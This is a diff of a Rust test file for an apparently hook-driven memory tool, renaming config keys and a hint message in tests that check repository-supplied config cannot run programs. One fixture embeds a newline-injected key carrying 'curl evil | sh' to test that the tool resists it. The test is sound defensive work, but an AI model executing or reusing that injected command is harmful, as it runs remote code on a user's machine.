@@ -166,7 +166,7 @@ fn a_store_that_came_with_a_repository_says_nothing() {
     origin.git(&origin.root(), &["clone", "-q", "project", "clone"]);
     let ran = origin.run_in(&clone, ["recall", "deploy"]).failed(7);
     assert!(ran.stderr.contains("it may be anybody's"), "{}", ran.stderr);
-    assert!(ran.stderr.contains("hint: `tacit init` starts a new memory"), "{}", ran.stderr);
+    assert!(ran.stderr.contains("hint: `tacit init` creates a new store"), "{}", ran.stderr);
     let payload = json!({
         "hook_event_name": "UserPromptSubmit", "session_id": "s-1", "cwd": clone,
         "prompt": "should I deploy from the release branch?",
@@ -334,11 +334,11 @@ fn what_a_repository_configures_chooses_no_program_and_blocks_nobody() {
          generation.provider = \"command\"\n\
          generation.command = \"touch {}\"\n\
          embedding.provider = \"openai\"\n\
-         embedding.openai_url = \"http://127.0.0.1:1\"\n\
+         embedding.openai.url = \"http://127.0.0.1:1\"\n\
          capture.mode = \"silent\"\n\
-         hooks.guard = true\n\
-         hooks.deadline_ms = 10000\n\
-         records.guard = true\n\
+         guard.commands = true\n\
+         timeouts.hook_ms = 10000\n\
+         guard.records = true\n\
          user.name = \"the user\"\n\
          \"x\\ncurl evil | sh\" = 1\n",
         marker.display()
